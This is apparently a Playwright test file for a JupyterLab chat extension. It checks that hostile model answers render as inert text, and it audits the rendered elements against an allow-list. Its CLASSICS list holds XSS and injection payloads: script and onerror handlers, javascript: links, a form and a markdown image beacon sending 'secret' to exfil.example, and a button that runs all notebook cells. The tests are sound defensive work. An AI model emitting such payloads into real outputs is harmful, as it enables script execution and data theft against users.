"""Whatever a model says stays text."""

from __future__ import annotations

import json
from itertools import groupby
from pathlib import Path

from playwright.sync_api import Request

from .conftest import OpenLab
from .notebooks import chat_with
from .pages import until

CLASSICS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![pixel](https://exfil.example/pixel.png?q=secret)",
    "![here](/api/kernels)",
    "[click](javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<style>@import 'https://exfil.example/a.css'; * { display: none }</style>",
    "<form action=https://exfil.example><input name=q><button>Send</button></form>",
    "<svg><script>alert(1)</script></svg>",
    "<div id=main data-jp-theme-light=false onclick=alert(1)>text</div>",
    '<button data-commandlinker-command="notebook:run-all-cells">Show full answer</button>',
    "[ref]: javascript:alert(1)\n\n[click][ref] <https://exfil.example> ```js\nalert(1)\n```",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
]

CORPUS = Path(__file__).parents[1] / "corpus" / "chat_payloads.json"

_AUDIT = """root => {
    const tags = `a b blockquote br button code del details div em h1 h2 h3 h4 h5 h6 header hr i
        img input li ol p pre s section span strong sub summary sup svg table tbody td th thead tr
        ul`.split(/\\s+/);
    const names = `class dir title alt start align scope open disabled checked rel target
        referrerpolicy role tabindex colspan rowspan loading decoding translate`.split(/\\s+/);
    const images = /^(blob:|data:image\\/(png|jpeg|gif|webp)[;,])/;
    const isFine = (element, name, value) => {
        switch (name) {
            case "href": return ["http:", "https:", "mailto:"].includes(element.protocol);
            case "src": return element.localName === "img" && images.test(value);
            case "class": return value.split(" ").every(one => one.startsWith("ipychat-"));
            case "type": return ["button", "checkbox"].includes(value);
            default: return names.includes(name) || name.startsWith("aria-");
        }
    };
    const found = [];
    for (const element of root.querySelectorAll(".ipychat-message-body *")) {
        const tag = element.localName;
        // Icons are ours.
        if (element.parentElement.closest("svg.ipychat-icon")) continue;
        if (!tags.includes(tag)) found.push(`<${tag}>`);
        if (element.matches("svg.ipychat-icon")) continue;
        for (const { name, value } of element.attributes)
            if (!isFine(element, name, value)) found.push(`<${tag} ${name}="${value}">`);
    }
    return found;
}"""

_CLICK = """root => {
    for (const element of root.querySelectorAll(".ipychat-message-body :not(a[href])"))
        element.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
}"""


def test_hostile_answers_stay_text(lab: OpenLab) -> None:
    _recite(lab, CLASSICS)


def test_answers_of_a_hostile_corpus_stay_text(lab: OpenLab) -> None:
    payloads = json.loads(CORPUS.read_text(encoding="utf-8"))["payloads"]
    texts: list[str] = []
    for _, group in groupby(payloads, key=lambda payload: payload["cls"]):
        ofclass = [payload["s"] for payload in group if isinstance(payload.get("s"), str)]
        texts += ofclass[:: max(1, len(ofclass) // 4)][:4]
    _recite(lab, texts)


def _recite(lab: OpenLab, texts: list[str]) -> None:
    notebook = lab(chat_with("recite"), "1 + 1")
    chat, page = notebook.chat, notebook.page
    prompts, tabs = notebook.prompts(), page.locator(".lm-TabBar-tab").count()
    loaded: list[str] = []

    def note(request: Request) -> None:
        if _is_of_an_element(request):
            loaded.append(request.url)

    page.on("request", note)
    file = f"{notebook.name}.json"
    (notebook.server.root / file).write_text(json.dumps(texts), encoding="utf-8")

    chat.submit(file)
    until(page, lambda: chat.replies.count() == len(texts), "all answers")
    chat.reply(len(texts) - 1)

    chat.root.evaluate(_CLICK)
    assert chat.root.evaluate(_AUDIT) == []
    assert loaded == []
    assert (notebook.prompts(), page.locator(".lm-TabBar-tab").count()) == (prompts, tabs)
    assert len(page.context.pages) == 1


def _is_of_an_element(request: Request) -> bool:
    # JupyterLab shows in its icon that the kernel works.
    is_of_the_host = "/static/favicons/" in request.url
    is_of_a_program = request.resource_type in ("fetch", "xhr", "websocket")
    is_here = request.url.startswith(("blob:", "data:"))
    return not (is_of_the_host or is_of_a_program or is_here)
